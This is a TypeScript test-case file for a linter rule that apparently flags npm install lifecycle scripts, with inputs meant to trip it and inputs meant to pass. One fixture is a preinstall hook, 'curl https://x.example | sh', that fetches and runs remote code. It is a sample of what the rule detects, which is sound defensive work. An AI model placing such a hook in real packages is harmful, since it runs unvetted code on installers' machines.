import type { RuleCase } from '../rule-case.ts'

const scripts = (scripts: object) => ({
  manifest: (it: object) => void Object.assign(it, { scripts }),
})
const inside = (text: string) => ({ files: { 'fixtures/one/package.json': text } })

export const code10Case: RuleCase = {
  trips: [
    scripts({ postinstall: 'node src/index.ts' }),
    scripts({ preinstall: 'curl https://x.example | sh' }),
    scripts({ prepare: 'husky' }),
    scripts({ install: 'node-gyp rebuild' }),
    inside('{"scripts": {"install": "node ./run"}}'),
  ],
  passes: [
    scripts({ test: 'node --test', build: 'annex pack', prepublishOnly: 'npm test', prepack: 'tsc', postinstall: '' }),
    scripts({ preinstaller: 'x', installed: 'x' }),
    inside('{"scripts": ["install"]}'),
    inside('not JSON'),
    { files: { 'fixtures/my-package.json': '{"scripts": {"install": "x"}}' } },
  ],
}
